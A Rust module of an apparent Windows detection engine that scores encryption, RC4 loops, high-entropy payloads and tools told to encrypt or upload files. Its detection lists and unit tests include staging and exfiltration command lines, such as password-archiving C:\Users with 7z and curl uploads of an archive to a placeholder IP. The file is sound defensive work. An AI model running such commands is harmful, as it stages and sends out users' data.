//! Stage classes `crypto` and `data`: what a script or a tool encrypts, and
//! what it does with data.

use sandtrap_sdk::{
    Chain, Site,
    windows::{
        Content, Invocation, Place, ProcessName, Trait, Traits, command_line, path, payload,
        process_name::POWERSHELL_HOSTS,
    },
};

use crate::settings::Tuning;

/// Least size of a payload whose entropy says anything, in bytes.
const MIN_PAYLOAD: usize = 1024;

/// Where a text stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// In a script that came from no file, or from anywhere.
    Script,
    /// In a script of an installed product.
    Product,
    /// On the command line.
    CommandLine,
}

impl Source {
    /// Of a script by its file; nothing if the operator approved it.
    pub fn of_script(site: &Site, file: &str) -> Option<Self> {
        if !file.is_empty() && site.is_approved_script(file) == Some(true) {
            return None;
        }
        let is_product = matches!(
            path::place(file),
            Place::ProgramFiles | Place::System | Place::Windows
        );
        Some(if is_product {
            Self::Product
        } else {
            Self::Script
        })
    }

    fn name(self) -> &'static str {
        match self {
            Self::Script => "a script of the session",
            Self::Product => "a script of an installed product",
            Self::CommandLine => "the command line",
        }
    }
}

/// Adds what a text says about encryption and data.
pub fn add_text(text: &str, source: Source, tuning: &Tuning, chain: &mut Chain<'_, '_>) {
    let traits = Traits::of_layers(text);
    let place = source.name();
    let excerpt = excerpt(text);
    let has_cipher = traits.has(Trait::SymmetricCipher);
    let is_product = source == Source::Product;
    if has_cipher && traits.has(Trait::Encrypt) {
        let score = if is_product { 10 } else { 30 };
        chain.add(
            "crypto.encrypt",
            score,
            format!("{place} encrypts with a symmetric cipher: {excerpt}"),
        );
    } else if has_cipher && traits.has(Trait::Decrypt) {
        chain.add(
            "crypto.decrypt",
            5,
            format!("{place} decrypts with a symmetric cipher: {excerpt}"),
        );
    } else if has_cipher {
        let score = if is_product { 10 } else { 25 };
        let note = format!("{place} uses symmetric crypto, direction not visible: {excerpt}");
        chain.add("crypto.cipher", score, note);
    }
    if traits.has(Trait::Rc4Loop) && !is_product {
        // The same loop encrypts and decrypts.
        chain.add(
            "crypto.rc4",
            20,
            format!("{place} has the marks of RC4 written out"),
        );
    }
    if has_cipher && traits.has(Trait::KeyDerivation) {
        chain.add("crypto.key", 5, format!("{place} sets or derives a key"));
    }
    if has_cipher && traits.has_any(&[Trait::Base64, Trait::Decompression]) {
        chain.add(
            "crypto.encoding",
            5,
            format!("{place} packs or encodes around the cipher"),
        );
    }

    let sends = traits.has(Trait::Upload) || traits.has(Trait::Socket);
    if traits.has(Trait::DataHandling) && (has_cipher || sends) {
        chain.add("data.read", 10, format!("{place} reads or packs files"));
    }
    if traits.has(Trait::Upload) {
        chain.add("data.upload", 10, format!("{place} sends data out"));
    }
    if traits.has(Trait::Socket) && !is_product {
        chain.add(
            "egress.socket",
            10,
            format!("{place} opens a socket of its own"),
        );
    }
    if (sends || traits.has(Trait::Download))
        && let Some(entropy) = payload_entropy(text, tuning.entropy)
    {
        let note =
            format!("{place} hands over data of {entropy:.2} bits per byte, as encrypted data has");
        chain.add("volume.entropy", 15, note);
    }
}

/// Whether a script both encrypts and sends.
pub fn sends_what_it_encrypts(text: &str) -> bool {
    let traits = Traits::of_layers(text);
    let encrypts = (traits.has(Trait::SymmetricCipher) && traits.has(Trait::Encrypt))
        || traits.has(Trait::Rc4Loop);
    encrypts && traits.has_any(&[Trait::Upload, Trait::Socket])
}

/// Adds what a command line says.
pub fn add_command_line(
    name: &ProcessName,
    line: &str,
    tuning: &Tuning,
    chain: &mut Chain<'_, '_>,
) {
    let invocation = name
        .is_any(POWERSHELL_HOSTS)
        .then(|| Invocation::parse(line));
    let script = invocation.as_ref().and_then(Invocation::script);
    match script {
        Some(script) => add_text(script, Source::CommandLine, tuning, chain),
        None => add_text(line, Source::CommandLine, tuning, chain),
    }
    if is_uploading(name, line) {
        chain.add(
            "data.upload",
            10,
            format!("{} was told to send files", name.file_name()),
        );
    }
}

/// The tool that encrypts files with a password or a key, if that is what it
/// was told to do.
pub fn encrypting_tool(name: &ProcessName, line: &str) -> Option<String> {
    let arguments: Vec<String> = command_line::arguments_after_executable(line)
        .take(64)
        .map(|argument| argument.text.into_owned())
        .collect();
    let has = |wanted: &[&str]| {
        arguments.iter().any(|argument| {
            wanted
                .iter()
                .any(|each| argument.eq_ignore_ascii_case(each))
        })
    };
    let begins = |wanted: &[&str]| {
        arguments.iter().any(|argument| {
            wanted
                .iter()
                .any(|each| argument.starts_with(each) && argument.len() > each.len())
        })
    };
    let decrypts = has(&["-d", "--decrypt", "-decrypt"]);
    let encrypts = if name.is("openssl.exe") {
        has(&["enc", "aes-256-cbc", "aes-128-cbc", "smime", "cms"]) && !decrypts
    } else if name.is_any(&["gpg.exe", "gpg2.exe"]) {
        has(&["-c", "--symmetric", "-e", "--encrypt"]) && !decrypts
    } else if name.is_any(&["7z.exe", "7za.exe", "7zr.exe", "7zg.exe"]) {
        has(&["a", "u"]) && begins(&["-p"])
    } else if name.is_any(&["rar.exe", "winrar.exe"]) {
        has(&["a", "m"]) && begins(&["-hp", "-p"])
    } else if name.is_any(&["aescrypt.exe", "age.exe"]) {
        !decrypts && !arguments.is_empty()
    } else {
        false
    };
    encrypts.then(|| {
        let line: String = line.chars().take(200).collect();
        format!("{} was told to encrypt: {line}", name.file_name())
    })
}

/// Whether a tool that moves files was told to send some.
fn is_uploading(name: &ProcessName, line: &str) -> bool {
    let has = |wanted: &[&str]| {
        command_line::arguments_after_executable(line)
            .take(64)
            .any(|argument| {
                wanted
                    .iter()
                    .any(|each| argument.text.eq_ignore_ascii_case(each))
            })
    };
    if name.is("curl.exe") {
        let attached = |argument: &str| argument.starts_with("-T") || argument.starts_with("-F");
        has(&["--upload-file", "-F", "--form", "--data-binary", "-T"])
            || command_line::arguments_after_executable(line)
                .any(|argument| attached(&argument.text))
    } else if name.is("rclone.exe") {
        has(&["copy", "sync", "move", "copyto"])
    } else {
        name.is_any(&[
            "scp.exe",
            "pscp.exe",
            "psftp.exe",
            "sftp.exe",
            "winscp.exe",
            "ftp.exe",
        ])
    }
}

/// The highest entropy of a payload in the text that is large enough and
/// reaches the threshold.
fn payload_entropy(text: &str, threshold: f64) -> Option<f64> {
    payload::find_base64(text)
        .into_iter()
        .filter(|found| found.length / 4 * 3 >= MIN_PAYLOAD)
        .filter_map(|found| match found.content {
            Content::Binary(entropy) if entropy >= threshold => Some(entropy),
            _ => None,
        })
        .fold(None, |highest, entropy| {
            Some(highest.map_or(entropy, |known: f64| known.max(entropy)))
        })
}

/// What stands around the first word that has to do with ciphers.
fn excerpt(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let words = [
        "cryptography",
        "aes",
        "rijndael",
        "cipher",
        "securestring",
        "encrypt",
        "crypt",
    ];
    let at = words.iter().find_map(|word| lower.find(word)).unwrap_or(0);
    let start = text.floor_char_boundary(at.saturating_sub(20));
    let around = text.get(start..).unwrap_or_default();
    let around: String = around.chars().take(120).collect();
    around.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tools_that_encrypt() {
        for (line, expected) in [
            ("openssl.exe enc -aes-256-cbc -in a -out b -k x", true),
            ("openssl.exe enc -d -aes-256-cbc -in b -out a", false),
            ("openssl.exe version", false),
            ("gpg.exe -c secrets.zip", true),
            ("gpg.exe --decrypt secrets.gpg", false),
            ("7z.exe a -pSecret out.7z C:\\Users", true),
            ("7z.exe x -pSecret out.7z", false),
            ("rar.exe a -hpSecret out.rar C:\\Users", true),
            ("rar.exe a out.rar C:\\Users", false),
            ("notepad.exe enc", false),
        ] {
            let name = ProcessName::of(command_line::executable(line), "");
            assert_eq!(encrypting_tool(&name, line).is_some(), expected, "{line}");
        }
    }

    #[test]
    fn tools_that_send() {
        for (line, expected) in [
            ("curl.exe -T out.7z https://198.51.100.7/", true),
            ("curl.exe -F file=@out.7z https://198.51.100.7/", true),
            ("curl.exe -O https://198.51.100.7/x", false),
            ("rclone.exe copy C:\\x remote:y", true),
            ("rclone.exe version", false),
        ] {
            let name = ProcessName::of(command_line::executable(line), "");
            assert_eq!(is_uploading(&name, line), expected, "{line}");
        }
    }

    #[test]
    fn small_payloads_say_nothing() {
        let text = format!("Body {}", "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7".repeat(2));
        assert_eq!(payload_entropy(&text, 5.0), None);
    }
}
